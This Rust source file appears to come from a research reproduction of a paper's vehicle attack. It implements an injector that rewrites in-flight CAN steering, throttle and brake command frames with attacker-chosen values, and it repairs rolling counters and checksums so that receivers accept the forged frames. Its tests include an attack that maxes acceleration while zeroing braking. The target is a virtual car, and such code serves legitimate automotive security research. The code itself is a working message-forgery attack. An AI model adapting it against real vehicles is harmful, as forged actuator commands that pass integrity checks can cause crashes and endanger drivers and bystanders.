//! CAN frame rewriting with checksum repair (paper Fig. 4).

use canbus::{rewrite_signal, CanFrame, VirtualCarDbc, ACCEL_CMD, BRAKE_CMD, STEER_ANGLE_CMD};

use crate::AttackValues;

/// Rewrites in-flight actuator frames with attack values, preserving the
/// rolling counter and recomputing the checksum so receivers accept them.
#[derive(Debug, Default)]
pub struct Injector {
    dbc: VirtualCarDbc,
    rewritten: u64,
}

impl Injector {
    /// Creates an injector over the virtual car's DBC.
    pub fn new() -> Self {
        Self::default()
    }

    /// Total frames rewritten so far.
    pub fn rewritten(&self) -> u64 {
        self.rewritten
    }

    /// Applies the attack values to one frame. Frames the attack does not
    /// target pass through unchanged.
    pub fn apply(&mut self, frame: CanFrame, values: &AttackValues) -> CanFrame {
        let out = if frame.id() == self.dbc.steering_control().id {
            values.steer.map(|steer| {
                rewrite_signal(
                    self.dbc.steering_control(),
                    &frame,
                    &STEER_ANGLE_CMD,
                    steer.degrees(),
                )
            })
        } else if frame.id() == self.dbc.gas_command().id {
            values.accel.map(|accel| {
                rewrite_signal(self.dbc.gas_command(), &frame, &ACCEL_CMD, accel.mps2())
            })
        } else if frame.id() == self.dbc.brake_command().id {
            values.brake.map(|brake| {
                rewrite_signal(self.dbc.brake_command(), &frame, &BRAKE_CMD, brake.mps2())
            })
        } else {
            None
        };
        match out {
            // Values are always chosen within signal ranges, so rewrite
            // failures cannot occur with a well-formed frame; pass the frame
            // through untouched if one somehow does.
            Some(Ok(modified)) => {
                if modified != frame {
                    self.rewritten += 1;
                }
                modified
            }
            _ => frame,
        }
    }

    /// Applies the attack values to a whole batch.
    pub fn apply_all(&mut self, frames: Vec<CanFrame>, values: &AttackValues) -> Vec<CanFrame> {
        frames.into_iter().map(|f| self.apply(f, values)).collect()
    }

    /// In-place variant of [`apply_all`](Self::apply_all): rewrites targeted
    /// frames where they sit, allocating nothing ([`CanFrame`] is `Copy`).
    pub fn apply_in_place(&mut self, frames: &mut [CanFrame], values: &AttackValues) {
        for frame in frames {
            *frame = self.apply(*frame, values);
        }
    }
}

#[cfg(test)]
#[allow(clippy::float_cmp)] // tests assert exactly-representable values
mod tests {
    use super::*;
    use canbus::{decode, Encoder};
    use units::{Accel, Angle};

    fn command_frames(accel: f64, brake: f64, steer: f64) -> Vec<CanFrame> {
        let dbc = VirtualCarDbc::new();
        let mut enc = Encoder::new();
        vec![
            enc.encode(dbc.steering_control(), &[("STEER_ANGLE_CMD", steer)])
                .unwrap(),
            enc.encode(dbc.gas_command(), &[("ACCEL_CMD", accel)])
                .unwrap(),
            enc.encode(dbc.brake_command(), &[("BRAKE_CMD", brake)])
                .unwrap(),
        ]
    }

    #[test]
    fn rewrites_only_targeted_signals() {
        let mut inj = Injector::new();
        let frames = command_frames(0.5, 0.0, 0.1);
        let values = AttackValues {
            accel: None,
            brake: None,
            steer: Some(Angle::from_degrees(-0.5)),
        };
        let out = inj.apply_all(frames.clone(), &values);
        let dbc = VirtualCarDbc::new();
        // Steering changed and still verifies.
        let steer = decode(dbc.steering_control(), &out[0]).unwrap();
        assert!((steer["STEER_ANGLE_CMD"] + 0.5).abs() < 1e-9);
        // Gas and brake untouched, bit for bit.
        assert_eq!(out[1], frames[1]);
        assert_eq!(out[2], frames[2]);
        assert_eq!(inj.rewritten(), 1);
    }

    #[test]
    fn acceleration_attack_maxes_gas_and_zeroes_brake() {
        let mut inj = Injector::new();
        let frames = command_frames(0.3, -1.2, 0.0);
        let values = AttackValues {
            accel: Some(Accel::from_mps2(2.4)),
            brake: Some(Accel::ZERO),
            steer: None,
        };
        let out = inj.apply_all(frames, &values);
        let dbc = VirtualCarDbc::new();
        let gas = decode(dbc.gas_command(), &out[1]).unwrap();
        let brake = decode(dbc.brake_command(), &out[2]).unwrap();
        assert!((gas["ACCEL_CMD"] - 2.4).abs() < 1e-9);
        assert_eq!(brake["BRAKE_CMD"], 0.0);
        assert_eq!(inj.rewritten(), 2);
    }

    #[test]
    fn rewritten_frames_verify_at_the_receiver() {
        let mut inj = Injector::new();
        let frames = command_frames(0.0, 0.0, 0.0);
        let values = AttackValues {
            accel: Some(Accel::from_mps2(2.0)),
            brake: Some(Accel::from_mps2(0.0)),
            steer: Some(Angle::from_degrees(0.25)),
        };
        let dbc = VirtualCarDbc::new();
        for frame in inj.apply_all(frames, &values) {
            let spec = dbc.by_id(frame.id()).unwrap();
            assert!(decode(spec, &frame).is_ok(), "checksum repaired on {frame}");
        }
    }

    #[test]
    fn unrelated_frames_pass_through() {
        let mut inj = Injector::new();
        let other = CanFrame::new(0x1D0, &[1, 2, 3, 4, 5, 6, 7, 8]).unwrap();
        let values = AttackValues {
            accel: Some(Accel::from_mps2(2.4)),
            brake: Some(Accel::ZERO),
            steer: Some(Angle::from_degrees(0.5)),
        };
        assert_eq!(inj.apply(other, &values), other);
        assert_eq!(inj.rewritten(), 0);
    }

    #[test]
    fn identical_value_does_not_count_as_rewrite() {
        let mut inj = Injector::new();
        let frames = command_frames(2.4, 0.0, 0.0);
        let values = AttackValues {
            accel: Some(Accel::from_mps2(2.4)),
            brake: None,
            steer: None,
        };
        let _ = inj.apply_all(frames, &values);
        assert_eq!(inj.rewritten(), 0, "bit-identical output is not tampering");
    }
}
